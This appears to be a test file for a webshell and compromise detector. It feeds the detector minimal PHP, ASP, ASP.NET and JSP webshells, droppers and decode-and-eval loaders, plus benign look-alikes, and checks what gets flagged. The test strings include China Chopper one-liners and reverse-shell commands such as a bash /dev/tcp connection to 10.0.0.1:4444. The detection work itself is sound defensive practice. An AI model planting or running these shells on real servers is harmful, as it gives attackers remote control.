// Our own detectors on made-up minimal shells and benign look-alikes (written here, never copied from a corpus).
import { describe, expect, it } from 'vitest';
import { builtinDetectors, levelOfScore, runDetectors } from '../../../src/sweep/detectors/index.js';
import { decodeSubject } from '../../../src/sweep/detectors/text.js';
import type { DetectorHit } from '../../../src/sweep/detectors/types.js';

const enc = new TextEncoder();
function run(path: string, text: string | Uint8Array): DetectorHit[] {
  return runDetectors({ path, bytes: typeof text === 'string' ? enc.encode(text) : text });
}
function top(hits: DetectorHit[]): number {
  return hits.reduce((m, h) => Math.max(m, h.score), 0);
}
function ids(hits: DetectorHit[]): string[] {
  return hits.flatMap((h) => [h.id, ...h.matches.map((m) => m.identifier)]);
}
function flagged(path: string, text: string | Uint8Array): boolean {
  return top(run(path, text)) >= 60;
}

describe('PHP traits', () => {
  const shells: Array<[string, string, string]> = [
    ['eval of POST', '<?php @eval($_POST["k"]); ?>', 'eval-request'],
    ['assert through a variable', '<?php $a = $_REQUEST["z"]; assert($a); ?>', 'eval-request'],
    ['request as function', '<?php $_GET["f"]($_GET["a"]); ?>', 'request-callable'],
    ['variable function', "<?php $f = 'sys'.'tem'; $f($_POST['c']); ?>", 'variable-function-request'],
    ['system of GET', '<?php echo system("ping -c1 " . $_GET["host"]); ?>', 'command-request'],
    ['backticks', '<?php $o = `ls {$_GET["d"]}`; echo $o; ?>', 'backtick-request'],
    ['preg_replace /e', "<?php preg_replace('/.*/e', $_POST['x'], ''); ?>", 'preg-e-request'],
    ['decode-and-eval', "<?php eval(gzinflate(base64_decode('80jNycnXUSjPL8pJUQQA'))); ?>", 'eval-decode-chain'],
    ['hidden name', '<?php $n = "\\x61\\x73\\x73\\x65\\x72\\x74"; $n($_POST[1]); ?>', 'hidden-function-name'],
    ['array_map callback', '<?php array_map($_GET["cb"], array($_GET["v"])); ?>', 'array-callback-request'],
  ];
  for (const [name, code, id] of shells) {
    it(`flags ${name}`, () => {
      const hits = run('site/x.php', code);
      expect(ids(hits)).toContain(id);
      expect(top(hits)).toBeGreaterThanOrEqual(60);
    });
  }
  it('explains in plain words and tags the technique', () => {
    const [hit] = run('x.php', '<?php eval($_POST["p"]);');
    expect(hit?.description).toMatch(/HTTP request/);
    expect(hit?.tags).toEqual(expect.arrayContaining(['attack.persistence', 'attack.t1505.003']));
    expect(hit?.references.length).toBeGreaterThan(0);
    expect(levelOfScore(hit?.score ?? 0)).toMatch(/high|critical/);
  });
  it('does not flag templating eval, escaped commands, SQL backticks or comments', () => {
    const app = [
      '<?php',
      '// include a row for each $_GET entry; eval($_POST) is not done here',
      "$tpl = compile_template('page');",
      "eval('?>' . $tpl);",
      "$out = exec('convert ' . escapeshellarg($file));",
      'array_map(\'intval\', $_POST["ids"]);',
      '$sql = "SELECT `id` FROM `t` WHERE `name` = \'" . $db->escape($_GET["n"]) . "\'";',
      'call_user_func(array($this, "render"), $_GET["page"]);',
    ].join('\n');
    expect(flagged('wp/app.php', app)).toBe(false);
  });
});

describe('classic ASP traits', () => {
  it('flags the China Chopper one-liner', () => {
    expect(ids(run('a.asp', '<%eval request("pass")%>'))).toContain('chopper-one-liner');
  });
  it('flags Execute of request input and WScript.Shell fed by the request', () => {
    expect(flagged('a.asp', '<%\nExecute(Request.Form("c"))\n%>')).toBe(true);
    const shell = '<%\nSet s = Server.CreateObject("WScript.Shell")\nSet o = s.Exec("cmd.exe /c " & Request("c"))\nResponse.Write o.StdOut.ReadAll\n%>';
    expect(ids(run('a.asp', shell))).toContain('shell-request');
  });
  it('flags a JScript page that hides eval in an object', () => {
    expect(flagged('a.asp', '<%@LANGUAGE="JAVASCRIPT"%><%var o = {a: Request.Form("z"), b: eval}; o.b(o.a + "");%>')).toBe(true);
  });
  it('does not flag ADO conn.Execute with request input or Server.Execute', () => {
    const page = '<%\nSet rs = conn.Execute("SELECT * FROM news WHERE id=" & CLng(Request("id")))\nServer.Execute("footer.asp")\n\' Execute(Request("x")) in a comment\n%>';
    expect(flagged('cms/news.asp', page)).toBe(false);
  });
});

describe('ASP.NET traits', () => {
  it('flags JScript eval unsafe', () => {
    expect(ids(run('x.aspx', '<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>'))).toContain('eval-unsafe');
  });
  it('flags cmd.exe started with request arguments', () => {
    const page = '<%@ Page Language="C#" %><script runat="server">void Page_Load(){ var p = new ProcessStartInfo("cmd.exe");\np.Arguments = "/c " + Request.Form["c"];\nProcess.Start(p); }</script>';
    expect(ids(run('x.aspx', page))).toContain('process-request');
  });
  it('flags an AES assembly loader', () => {
    const page = '<%@ Page Language="C#" %><%byte[] c = Request.BinaryRead(Request.ContentLength);\nSystem.Reflection.Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);%>';
    expect(top(run('x.aspx', page))).toBeGreaterThanOrEqual(100);
  });
  it('does not flag data binding Eval or a fixed process', () => {
    const page = '<%@ Page Language="C#" %><asp:Label Text=\'<%# Eval("Title", "{0}") %>\' runat="server"/><script runat="server">void Page_Load(){ Process.Start("notepad.exe"); }</script>';
    expect(flagged('n2/page.aspx', page)).toBe(false);
  });
});

describe('JSP traits', () => {
  it('flags Runtime.exec of a parameter, directly or through a variable', () => {
    expect(ids(run('x.jsp', '<% Runtime.getRuntime().exec(request.getParameter("c")); %>'))).toContain('exec-request');
    const two = '<%\nString c = request.getParameter("cmd");\nProcess p = Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", c});\n%>';
    expect(flagged('x.jsp', two)).toBe(true);
  });
  it('flags a class defined from request bytes', () => {
    const page = '<%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%javax.crypto.Cipher c=javax.crypto.Cipher.getInstance("AES");c.init(2,new javax.crypto.spec.SecretKeySpec(k.getBytes(),"AES"));new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext);%>';
    expect(top(run('x.jsp', page))).toBeGreaterThanOrEqual(100);
  });
  it('does not flag a page that only reads parameters', () => {
    const page = '<%@ page contentType="text/html" %><% String n = request.getParameter("name"); out.println(org.owasp.encoder.Encode.forHtml(n)); %>';
    expect(run('examples/hello.jsp', page)).toEqual([]);
  });
});

describe('droppers, tunnels and reverse shells', () => {
  it('flags a small ASP page that writes a file the request names and fills', () => {
    const page = '<%\np = Request("p")\nd = Request("d")\nSet fs = Server.CreateObject("Scripting.FileSystemObject")\nSet f = fs.CreateTextFile(p, True)\nf.Write d\nf.Close\n%>';
    expect(ids(run('a.asp', page))).toEqual(expect.arrayContaining(['create-file-request', 'small-dropper']));
    expect(flagged('a.asp', page)).toBe(true);
  });
  it('flags a JSP page writing request bytes to a request-named file', () => {
    const page = '<%new java.io.FileOutputStream(application.getRealPath("/") + request.getParameter("n")).write(request.getParameter("b").getBytes());%>';
    expect(flagged('w.jsp', page)).toBe(true);
  });
  it('flags cmd.exe fed on stdin from the request', () => {
    const page = '<%@ WebHandler Language="C#" Class="H" %>\nusing System.Diagnostics;\npublic class H { public void ProcessRequest(System.Web.HttpContext c) {\nstring x = c.Request["x"];\nvar p = new Process(); p.StartInfo.FileName = "cmd.exe";\np.Start();\np.StandardInput.WriteLine(x);\n} }';
    expect(ids(run('h.ashx', page))).toContain('stdin-request');
  });
  it('flags reverse shells', () => {
    expect(flagged('r.php', '<?php $s = fsockopen("10.0.0.1", 4444); proc_open("/bin/sh -i", array(0 => $s, 1 => $s, 2 => $s), $p); ?>')).toBe(true);
    expect(flagged('r.jsp', '<% Runtime.getRuntime().exec(new String[]{"bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}); %>')).toBe(true);
  });
  it('flags a superglobal name computed by XOR', () => {
    const hits = run('x.php', '<?php $a = "~+d()" ^ "!{+{}"; $b = ${$a}["c"]; eval($b); ?>');
    expect(ids(hits)).toContain('hidden-function-name');
    expect(hits[0]?.description).toMatch(/_post/);
  });
  it('flags a UTF-7 ASP page', () => {
    expect(flagged('u.asp', '<%@codepage=65000%>\n<%+AGUAdgBhAGw-%>')).toBe(true);
  });
  it('does not flag an installer writing its configuration or a classic-ASP dynamic include', () => {
    const install = "<?php\nif ($_POST['db']) {\n  $cfg = \"<?php define('DB', '\" . addslashes($_POST['db']) . \"');\";\n  file_put_contents(__DIR__ . '/config.php', $cfg);\n}\n";
    expect(flagged('app/install.php', install)).toBe(false);
    const include = '<%\nFunction ReadInclude(p)\n  ReadInclude = fso.OpenTextFile(Server.MapPath(p)).ReadAll\nEnd Function\nExecuteGlobal ReadInclude("inc/common.asp")\n%>';
    expect(flagged('cms/default.asp', include)).toBe(false);
  });
});

describe('application pages that look like droppers', () => {
  it('does not flag an upload back end writing the request body under a named file', () => {
    const page = '<%@ page import="java.io.*" %><%\nString name = request.getParameter("name");\nString dir = application.getRealPath("/uploads");\nInputStream in = request.getInputStream();\nOutputStream o = new FileOutputStream(new File(dir, name));\nbyte[] buf = new byte[4096]; int n;\nwhile ((n = in.read(buf)) > 0) o.write(buf, 0, n);\no.close();\n%>';
    expect(flagged('app/upload.jsp', page)).toBe(false);
  });
  it('does not flag a CMS admin page saving a template', () => {
    const page = '<!--#include file="conn.asp"-->\n<% If Session("admin") = "" Then Response.Redirect "login.asp"\nf = Request.Form("file")\nSet fso = Server.CreateObject("Scripting.FileSystemObject")\nSet t = fso.CreateTextFile(Server.MapPath("../template/" & f), True)\nt.Write Request.Form("content")\nt.Close\n%>';
    expect(flagged('cms/admin/save.asp', page)).toBe(false);
  });
  it('does not flag a system-status page running fixed commands', () => {
    const page = "<?php echo shell_exec('uname -a'); echo exec('uptime'); system('df -h'); $p = popen('free -m', 'r'); echo 'whoami ifconfig'; ?>";
    expect(flagged('admin/status.php', page)).toBe(false);
  });
});

describe('obfuscation and encodings', () => {
  it('decodes UTF-16 scripts and says so', () => {
    const utf16 = new Uint8Array(Buffer.from('\ufeff<%eval request("a")%>', 'utf16le'));
    const hits = run('a.asp', utf16);
    expect(ids(hits)).toEqual(expect.arrayContaining(['chopper-one-liner', 'utf-16']));
    expect(decodeSubject(utf16).encoding).toBe('utf-16le');
  });
  it('notes GBK text without flagging it alone', () => {
    const gbk = new Uint8Array([...enc.encode('<?php echo "'), ...Array(20).fill([0xc4, 0xe3]).flat(), ...enc.encode('"; ?>')]);
    expect(decodeSubject(gbk).gbk).toBe(true);
    expect(flagged('zh/index.php', gbk)).toBe(false);
  });
  it('keeps a packed but harmless blob below a warning', () => {
    const blob = 'A'.repeat(30000);
    expect(flagged('img.php', `<?php $png = '${blob}'; header('Content-Type: image/png'); echo base64_decode($png);`)).toBe(false);
  });
});

describe('context', () => {
  it('flags a script in an upload folder, higher with a trait', () => {
    const plain = run('wp-content/uploads/2021/a.php', '<?php echo phpversion(); ?>');
    expect(ids(plain)).toContain('hardnut.context.script-in-uploads');
    const shell = run('wp-content/uploads/a.php', '<?php eval($_POST[1]);');
    expect(shell.find((h) => h.id === 'hardnut.context.script-in-uploads')?.score).toBeGreaterThanOrEqual(60);
  });
  it('keeps an application\'s upload-handling code below a warning', () => {
    const code = '<?php\nnamespace App\\Upload;\nclass UploadFromFile extends UploadBase {\n  public function initialize($name, $tmp) { $this->name = $name; }\n}\n';
    expect(top(run('usr/share/app/includes/upload/UploadFromFile.php', code))).toBeLessThan(60);
  });
  it('does not flag an empty placeholder in an image folder', () => {
    expect(run('theme/images/index.php', '<?php\n// Silence is golden.\n')).toEqual([]);
  });
  it('flags .aspx in aspnet_client and unknown pages in owa/auth, not Exchange\'s own', () => {
    expect(top(run('inetpub/wwwroot/aspnet_client/system_web/x.aspx', '<%@ Page Language="C#" %>'))).toBeGreaterThanOrEqual(60);
    expect(ids(run('FrontEnd/HttpProxy/owa/auth/errorEE.aspx', '<%@ Page %>'))).toContain('hardnut.context.aspx-in-owa-auth');
    expect(run('FrontEnd/HttpProxy/owa/auth/logon.aspx', '<%@ Page Language="C#" %>')).toEqual([]);
    expect(ids(run('FrontEnd/HttpProxy/ecp/auth/x.aspx', '<%@ Page %>'))).toContain('hardnut.context.aspx-in-ecp-auth');
  });
  it('flags script in an OAB ExternalUrl', () => {
    const conf = 'ExternalUrl : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["k"],"unsafe");}</script>';
    expect(top(run('oab/config.txt', conf))).toBeGreaterThanOrEqual(150);
  });
  it('flags lsass dumps, critical in C:\\root and Windows\\Temp', () => {
    const mdmp = new Uint8Array([0x4d, 0x44, 0x4d, 0x50, 0, 0, 0, 0]);
    expect(top(run('C:\\root\\lsass.dmp', mdmp))).toBeGreaterThanOrEqual(150);
    expect(top(run('C/Windows/Temp/lsass_1.dmp', mdmp))).toBeGreaterThanOrEqual(150);
    expect(top(run('D/dumps/lsass.dmp', mdmp))).toBe(100);
  });
  it('flags archives directly in ProgramData only', () => {
    const zip = new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0, 0]);
    expect(top(run('C/ProgramData/out.7z', zip))).toBe(60);
    expect(run('C/ProgramData/Vendor/cache/pkg.zip', zip)).toEqual([]);
  });
});

describe('hostile input', () => {
  it('never throws and stays bounded on pathological text', () => {
    const inputs = [
      '<?php ' + 'eval('.repeat(50000),
      '<?php $a' + '='.repeat(100000),
      '<% ' + 'request('.repeat(40000),
      'x'.repeat(300000),
      '<?php "' + '\\x'.repeat(50000),
      "<?php '" + "'.'".repeat(30000),
    ];
    for (const s of inputs) expect(() => run('h.php', s)).not.toThrow();
    expect(() => run('bin.jsp', new Uint8Array(70000).fill(0xff))).not.toThrow();
  });
  it('skips a detector that throws and reports it', () => {
    const skipped: string[] = [];
    const bad = {
      get path(): string { throw new Error('unreadable'); },
      get bytes(): Uint8Array { throw new Error('unreadable'); },
    };
    expect(runDetectors(bad, (d) => skipped.push(d))).toEqual([]);
    expect(skipped.length).toBe(builtinDetectors.length);
  });
});
